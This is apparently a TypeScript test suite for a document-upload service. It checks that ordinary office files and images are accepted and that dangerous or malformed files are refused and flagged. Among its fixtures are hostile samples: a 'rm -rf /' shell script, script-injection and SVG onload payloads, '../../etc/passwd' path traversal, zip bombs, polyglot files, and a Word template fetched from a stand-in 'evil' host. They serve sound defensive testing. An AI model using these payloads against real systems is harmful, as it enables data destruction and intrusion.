import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { anActor, World } from './world';
import * as sample from './samples';

describe('what may come in', () => {
  let world: World;
  const enterprise = anActor();
  const officer = anActor({ orgKind: 'bureau' });
  beforeAll(async () => {
    world = await World.start();
  });
  afterAll(() => world.stop());

  const blobs = (): string[] => {
    const root = world.env.STORAGE_URL.slice('disk:'.length);
    try {
      return (readdirSync(root, { recursive: true }) as string[]).filter(name => statSync(join(root, name)).isFile());
    } catch {
      return [];
    }
  };

  describe('is taken', () => {
    it.each<[string, () => Buffer | Promise<Buffer>, string]>([
      ['报告.pdf', () => sample.pdf('监测报告'), 'application/pdf'],
      ['说明.docx', () => sample.word('工艺说明'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['台账.XLSX', () => sample.sheet([['日期', '用量']]), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ['点.png', sample.png, 'image/png'],
      ['照片.JPEG', sample.jpg, 'image/jpeg'],
    ])('%s', async (name, bytes, mediaType) => {
      const { status, body } = await world.upload(enterprise, world.matter(enterprise), name, await bytes());
      expect([status, body.name, body.mediaType, body.scanState, body.warnings]).toEqual([201, name.replace(/XLSX|JPEG/, ending => ending.toLowerCase()), mediaType, 'unscanned', []]);
    });
  });

  describe('is refused, says what was found, and never reaches the store', () => {
    it.each<[string, string, () => Buffer | Promise<Buffer>, number, string, RegExp]>([
      ['nothing at all', '空.pdf', () => Buffer.alloc(0), 415, 'file.empty', /空/],
      ['a Windows program called PDF', '报告.pdf', sample.program, 415, 'file.executable', /Windows 程序/],
      ['a Linux program called PNG', '图.png', () => Buffer.from('\x7fELF' + 'x'.repeat(99), 'latin1'), 415, 'file.executable', /ELF/],
      ['a script called docx', '说明.docx', () => Buffer.from('#!/bin/sh\nrm -rf /'), 415, 'file.executable', /脚本/],
      ['an archive', '资料.zip', () => sample.zip([{ name: 'a.txt', bytes: Buffer.from('a') }]), 415, 'file.type', /压缩包/],
      ['a web page called PDF', '页.pdf', () => Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), 415, 'file.type', /网页/],
      ['an SVG called PNG', '图.png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 415, 'file.type', /SVG/],
      ['old Word', '旧.doc', () => Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + '\0'.repeat(600), 'latin1'), 415, 'file.type', /旧版/],
      ['a GIF', '图.gif', () => Buffer.from('GIF89a' + '\0'.repeat(60), 'latin1'), 415, 'file.type', /gif/],
      ['text', '说明.txt', () => Buffer.from('说明'), 415, 'file.type', /文本/],
      ['a PDF called Word', '报告.docx', () => sample.pdf('x'), 415, 'file.name-differs', /PDF/],
      ['Word called Excel', '表.xlsx', () => sample.word('x'), 415, 'file.name-differs', /Word/],
      ['half a PDF', '半.pdf', async () => (await sample.pdf('一页')).subarray(0, 3000), 415, 'file.damaged', /不完整/],
      ['half a PNG', '半.png', () => Buffer.concat([sample.png().subarray(0, 40), Buffer.alloc(60)]), 415, 'file.damaged', /不完整/],
      ['half a JPG', '半.jpg', () => sample.jpg().subarray(0, 90), 415, 'file.damaged', /不完整/],
      ['half a docx', '半.docx', async () => (await sample.word('x')).subarray(0, 2000), 415, 'file.damaged', /不完整/],
      ['a picture that is a ZIP too', '图.png', () => Buffer.concat([sample.png(), sample.zip([{ name: 'evil.class', bytes: Buffer.from('x') }])]), 415, 'file.two-in-one', /ZIP/],
      ['a PDF that is a ZIP too', '报告.pdf', async () => Buffer.concat([await sample.pdf('x'), sample.zip([{ name: 'a', bytes: Buffer.from('x') }])]), 415, 'file.two-in-one', /ZIP/],
      ['a PDF that is a page too', '报告.pdf', async () => Buffer.concat([Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n'), await sample.pdf('x')]), 415, 'file.two-in-one', /HTML/],
      ['a picture that is a PDF too', '图.jpg', () => Buffer.concat([sample.jpg().subarray(0, 90), Buffer.from('%PDF-1.7 %%EOF'), Buffer.from([0xff, 0xd9])]), 415, 'file.two-in-one', /PDF/],
      ['macros by their part', '宏.docx', () => sample.wordWithPart('word/vbaProject.bin'), 415, 'file.macros', /宏/],
      ['macros by name', '宏.docm', () => sample.wordWithPart('word/vbaProject.bin'), 415, 'file.macros', /宏/],
      ['macros by the stated type', '宏.docx', () => sample.wordWithTypes('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'), 415, 'file.macros', /宏/],
      ['a program inside Word', '附.docx', () => sample.wordWithPart('word/embeddings/setup.exe'), 415, 'file.program-inside', /setup\.exe/],
      ['an archive inside Word', '附.docx', () => sample.wordWithPart('word/media/a.zip'), 415, 'file.program-inside', /a\.zip/],
      ['a bomb', '大.docx', sample.zipBomb, 415, 'file.archive', /展开后过大/],
      ['a bomb that lies about its size', '大.docx', sample.lyingZipBomb, 415, 'file.damaged', /损坏/],
      ['five thousand parts', '多.docx', sample.manyParts, 415, 'file.archive', /展开后过大/],
      ['a path out of the archive', '逃.docx', () => sample.wordWithPart('../../etc/passwd'), 415, 'file.damaged', /损坏/],
      ['60 MB', '大.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(60 * 1024 * 1024, 0x20), Buffer.from('%%EOF')]), 413, 'file-too-large', /50 MB/],
    ])('%s', async (_what, name, bytes, status, code, words) => {
      const before = blobs();
      const matter = world.matter(enterprise);
      const answer = await world.upload(enterprise, matter, name, await bytes());
      expect([answer.status, answer.body.code]).toEqual([status, code]);
      expect(JSON.stringify(answer.body)).toMatch(words);
      expect(blobs()).toEqual(before);
      expect((await world.call(enterprise, 'GET', `/files?subjectType=matter&subjectId=${matter}`)).body).toEqual([]);
    });

    it('and the attempt is on record, without the name', async () => {
      const matter = world.matter(enterprise);
      await world.upload(enterprise, matter, '王某某的报告.pdf', sample.program());
      const [row] = await world.db.query<{ actorUserId: string; details: object }>(`SELECT actor_user_id AS "actorUserId", details FROM audit_entry WHERE action = 'file.refused' AND subject_id = $1`, [matter]);
      expect(row).toMatchObject({ actorUserId: enterprise.userId, details: { code: 'file.executable', sizeBytes: sample.program().length } });
      expect(JSON.stringify(row)).not.toContain('王某某');
    });

    it('and nothing lies about in the folder for temporary files', () => {
      expect(world.spooled()).toBe(0);
    });
  });

  describe('is marked', () => {
    it.each<[string, string, () => Buffer, string[]]>([
      ['a PDF with a script in hex spelling', 'a.pdf', sample.scriptedPdf, ['pdf-javascript']],
      ['a PDF that starts a program', 'b.pdf', sample.launchingPdf, ['pdf-action']],
      ['Word that fetches its template', 'c.docx', () => sample.wordWithPart('word/_rels/settings.xml.rels', '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'), ['office-external']],
      ['Word with a table inside', 'd.docx', () => sample.wordWithPart('word/embeddings/sheet1.xlsx'), ['office-embedded']],
    ])('%s', async (_what, name, bytes, warnings) => {
      const { status, body } = await world.upload(enterprise, world.matter(enterprise), name, bytes());
      expect([status, body.warnings]).toEqual([201, warnings]);
    });

    it('but a link that people click is nothing to warn of', async () => {
      const bytes = sample.wordWithPart('word/_rels/document.xml.rels', '<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>');
      expect((await world.upload(enterprise, world.matter(enterprise), 'e.docx', bytes)).body.warnings).toEqual([]);
    });
  });

  it.each([
    ['with a path', '../../etc/passwd.png', 'passwd.png'],
    ['with a Windows path', 'C:\\\\Users\\\\wang\\\\图.png', '图.png'],
    ['with a leading dot', '.htaccess.png', 'htaccess.png'],
    ['that turns the reading direction', 'a\u202Egnp.exe.png', 'agnp.exe.png'],
    ['of 300 characters', `${'很'.repeat(300)}.png`, `${'很'.repeat(120)}.png`],
    ['of 130 rare characters', `${'𠮷'.repeat(130)}.png`, `${'𠮷'.repeat(120)}.png`],
    ['with signs that headers use', "a'b(c)*;é.png", "a'b(c);é.png"],
  ])('a name %s is made harmless and survives the way back', async (_what, sent, kept) => {
    const { body } = await world.upload(enterprise, world.matter(enterprise), sent, sample.png());
    expect(body.name).toBe(kept);
    const { status, headers } = await world.call(enterprise, 'GET', `/files/${body.id}/content`);
    const [, encoded = ''] = /filename\*=UTF-8''([^;]+)$/.exec(String(headers['content-disposition'])) ?? [];
    expect([status, decodeURIComponent(encoded)]).toEqual([200, kept]);
    expect(encoded).toMatch(/^[A-Za-z0-9%._!~-]+$/);
  });

  it('a form without a file, or none at all, is told so', async () => {
    const url = `/files?subjectType=matter&subjectId=${world.matter(enterprise)}`;
    expect((await world.call(enterprise, 'POST', url, {})).body['code']).toBe('file.form');
  });

  it('the quota holds when uploads come side by side', async () => {
    const matter = world.matter(enterprise, officer);
    const rows = Array.from({ length: 298 }, () => `(uuidv7(), repeat('0', 64), 'a', 'image/png', 1, 'matter', '${matter}', 'a', 'clean', 'no-text', now())`);
    await world.db.query(`INSERT INTO stored_file (id, hash, name, media_type, size_bytes, subject_type, subject_id, purpose, scan_state, text_state, created_at) VALUES ${rows.join(',')}`);
    const answers = await Promise.all(Array.from({ length: 6 }, (_, i) => world.upload(enterprise, matter, `${i}.png`, sample.png())));
    expect(answers.map(answer => answer.status).sort()).toEqual([201, 201, 422, 422, 422, 422]);
  });
});
